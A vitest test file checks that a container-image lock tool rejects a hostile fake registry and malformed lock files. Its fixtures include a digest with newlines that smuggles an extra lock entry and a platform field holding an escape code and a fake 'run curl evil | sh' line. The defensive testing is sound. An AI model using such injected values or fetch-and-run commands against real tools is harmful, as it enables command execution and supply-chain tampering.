// `xdf lock` against a registry in this process that lies, stalls or floods, and against xdf.lock
// files that are not regular files of the project: typed errors, xdf.lock left as it was.
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { formatLockFile } from '../../src/lock/file.js';
import { makeProject, read, xdf } from '../helpers/project.js';
import { FakeRegistry, MEDIA, sha256 } from '../registry/fake-registry.js';

let registry: FakeRegistry;
beforeAll(async () => {
  registry = await FakeRegistry.start();
});
afterAll(() => registry.close());
afterEach(() => {
  registry.answer = undefined;
});

const d = (c: string) => `sha256:${c.repeat(64)}`;
let count = 0;

/** A project whose one image is `<registry>/team/<repo>:1` for arm64v8, and its xdf.lock. */
function project(repo: string, lock?: string): string {
  return makeProject({
    'Dockerfile.tpl': `FROM ${registry.host}/team/${repo}:1\nRUN true\n`,
    'xdf.yaml': `arches: [arm64v8]\nimages: { "${registry.host}/*": { strategy: platform } }\n`,
    ...(lock === undefined ? {} : { 'xdf.lock': lock }),
  });
}

// An entry another project trusts: a lock that already pins Docker Hub's python.
const EXISTING = formatLockFile([{ ref: 'alpine:3', platform: 'linux/arm64', digest: d('0') }]);

describe('xdf lock takes nothing from a registry unchecked', () => {
  it('a list entry digest with a line break never adds entries to xdf.lock (XDF073)', async () => {
    const repo = `app${++count}`;
    const injected = `${d('a')}\n  - ref: python\n    platform: linux/arm64\n    digest: ${d('e')}`;
    registry.putManifest(
      `team/${repo}`,
      {
        schemaVersion: 2,
        mediaType: MEDIA.ociIndex,
        manifests: [
          {
            mediaType: MEDIA.ociManifest,
            digest: injected,
            size: 1,
            platform: { os: 'linux', architecture: 'arm64' },
          },
        ],
      },
      MEDIA.ociIndex,
      '1',
    );
    const dir = project(repo, EXISTING);
    const run = await xdf(dir, 'lock');
    expect(run.stderr).toMatch(
      new RegExp(
        `^Dockerfile.tpl:1:6: error XDF073: registry ${registry.host} answered a digest that is ` +
          'not one: "sha256:a{64}\\\\n  - ref: python',
      ),
    );
    expect(run.code).toBe(2);
    expect(read(dir, 'xdf.lock')).toBe(EXISTING);
  });

  it('a digest header that is not a digest is refused, never used in a URL', async () => {
    const repo = `app${++count}`;
    registry.answer = (req, res) => {
      if (!req.url?.includes(`/team/${repo}/`)) return false;
      // node:http refuses a line break in a header: the closest it sends is the folded value.
      res.writeHead(200, {
        'content-type': MEDIA.ociIndex,
        'docker-content-digest': `${d('a')}  - ref: python    platform: linux/arm64`,
      });
      res.end(req.method === 'HEAD' ? undefined : '{}');
      return true;
    };
    const dir = project(repo);
    const run = await xdf(dir, 'lock');
    expect(run.stderr).toMatch(/error XDF073: registry \S+ answered a digest that is not one: "/);
    expect(registry.requests.filter((r) => r.includes(`/team/${repo}/`))).toEqual([
      `HEAD /v2/team/${repo}/manifests/1`,
    ]);
    expect(fs.existsSync(path.join(dir, 'xdf.lock'))).toBe(false);
  });

  it('an entry whose image is another platform than its list claims is XDF072', async () => {
    const repo = `app${++count}`;
    registry.putList(`team/${repo}`, '1', [
      { claims: { architecture: 'arm64' }, real: { architecture: 'amd64' } },
    ]);
    const run = await xdf(project(repo), 'lock');
    expect(run.stderr).toMatch(
      /^Dockerfile.tpl:1:6: error XDF072: \S+ claims linux\/arm64 in its list, but that entry's image config says linux\/amd64\n/,
    );
  });

  it('an honest list is locked: the entry and the index', async () => {
    const repo = `app${++count}`;
    const list = registry.putList(`team/${repo}`, '1', [
      { claims: { architecture: 'amd64' } },
      { claims: { architecture: 'arm64', variant: 'v8' } },
    ]);
    const dir = project(repo);
    const run = await xdf(dir, 'lock');
    expect(run.stderr).toMatch(/1 image locked/);
    expect(read(dir, 'xdf.lock')).toBe(
      formatLockFile([
        {
          ref: `${registry.host}/team/${repo}:1`,
          platform: 'linux/arm64',
          digest: list.entries[1],
          index: list.digest,
        },
      ]),
    );
  });

  it('a platform os with a line break and an escape code is printed as data', async () => {
    const repo = `app${++count}`;
    registry.putManifest(
      `team/${repo}`,
      {
        schemaVersion: 2,
        mediaType: MEDIA.ociIndex,
        manifests: [
          {
            mediaType: MEDIA.ociManifest,
            digest: sha256('x'),
            size: 1,
            platform: { os: 'linux\nhint: run curl evil | sh\x1b[31m', architecture: 'arm64' },
          },
        ],
      },
      MEDIA.ociIndex,
      '1',
    );
    const run = await xdf(project(repo), 'lock');
    expect(run.stderr).toContain('error XDF071');
    // the os is in the message, escaped, on the error's own line
    expect(run.stderr).toMatch(/XDF071: [^\n]*"linux\\+nhint: run curl evil \| sh[^\n]*"\/arm64/);
    expect(run.stderr).not.toContain('\x1b');
    expect(run.stderr).not.toMatch(/^hint: run curl/m);
    expect(run.stderr.split('\n').filter((l) => l.startsWith('hint: '))).toHaveLength(1);
  });
});

describe('xdf lock waits no longer than --timeout', () => {
  it('a 503 asking to wait 59 s with --timeout 1 ends in about a second (XDF073)', async () => {
    const repo = `app${++count}`;
    registry.answer = (req, res) => {
      if (!req.url?.includes(`/team/${repo}/`)) return false;
      res.writeHead(503, { 'retry-after': '59' });
      res.end();
      return true;
    };
    const start = Date.now();
    const run = await xdf(project(repo), 'lock', '--timeout', '1');
    expect(Date.now() - start).toBeLessThan(3000);
    expect(run.code).toBe(2);
    expect(run.stderr).toMatch(
      /error XDF073: registry \S+ cannot be reached: answered 503 and asks to wait 59 s, past the timeout of 1 s\n/,
    );
  });

  it('an endless chunked answer ends as XDF073, not in memory', async () => {
    const repo = `app${++count}`;
    registry.answer = (req, res) => {
      if (!req.url?.includes(`/team/${repo}/`)) return false;
      res.writeHead(200, { 'content-type': MEDIA.ociIndex });
      if (req.method === 'HEAD') {
        res.end();
        return true;
      }
      const chunk = Buffer.alloc(1 << 20, 0x20);
      const pump = () => {
        while (res.write(chunk));
        res.once('drain', pump);
      };
      res.on('close', () => res.removeAllListeners('drain'));
      pump();
      return true;
    };
    const run = await xdf(project(repo), 'lock', '--timeout', '20');
    expect(run.stderr).toMatch(/error XDF073: registry \S+ cannot be reached: answer too large/);
  });
});

describe('xdf.lock is read through the one reader, by lock and by generate', () => {
  // Each is refused before any registry is asked: the image's registry refuses connections.
  const TEMPLATE = 'FROM 127.0.0.1:9/team/app:1\nRUN true\n';
  const CONFIG = 'arches: [arm64v8]\nimages: { "127.0.0.1:9/*": { strategy: platform } }\n';
  const outside = fs.mkdtempSync(path.join(os.tmpdir(), 'xdf-outside-'));
  fs.writeFileSync(path.join(outside, 'xdf.lock'), EXISTING);

  const kinds: [string, (file: string) => void, string, RegExp][] = [
    [
      'a symlink leaving the project',
      (f) => fs.symlinkSync(path.join(outside, 'xdf.lock'), f),
      'XDF050',
      /xdf.lock is outside the config's folder \(through a symlink\)/,
    ],
    [
      'a FIFO',
      (f) => execFileSync('mkfifo', [f]),
      'XDF005',
      /lock file xdf.lock is not a regular file/,
    ],
    [
      'a link to /dev/zero',
      (f) => fs.symlinkSync('/dev/zero', f),
      'XDF005',
      /lock file xdf.lock is not a regular file/,
    ],
    ['a folder', (f) => fs.mkdirSync(f), 'XDF005', /lock file xdf.lock is a folder/],
  ];

  for (const command of ['lock', 'generate'])
    it.each(kinds)(`${command}: %s is a typed error`, async (_, make, code, message) => {
      const dir = makeProject({ 'Dockerfile.tpl': TEMPLATE, 'xdf.yaml': CONFIG });
      make(path.join(dir, 'xdf.lock'));
      const start = Date.now();
      const run = await xdf(dir, command);
      expect(Date.now() - start).toBeLessThan(5000);
      expect(run.code).toBe(2);
      expect(run.stderr).toMatch(new RegExp(`error ${code}: `));
      expect(run.stderr).toMatch(message);
      expect(run.stderr).not.toMatch(/XDF099|cannot be reached/);
    });

  it('an xdf.lock over 1 MiB, as lock writes for a monorepo, is read and pins', async () => {
    const others = Array.from({ length: 10_000 }, (_, i) => ({
      ref: `127.0.0.1:9/team/other${i}:1`,
      platform: 'linux/arm64',
      digest: d('1'),
    }));
    const lock = formatLockFile([
      ...others,
      { ref: '127.0.0.1:9/team/app:1', platform: 'linux/arm64', digest: d('2') },
    ]);
    expect(lock.length).toBeGreaterThan(1 << 20);
    const dir = makeProject({ 'Dockerfile.tpl': TEMPLATE, 'xdf.yaml': CONFIG, 'xdf.lock': lock });
    const run = await xdf(dir, 'generate');
    expect(run.stderr).toBe('');
    expect(read(dir, 'Dockerfile.arm64v8')).toContain(`127.0.0.1:9/team/app:1@${d('2')}\n`);
  });
});
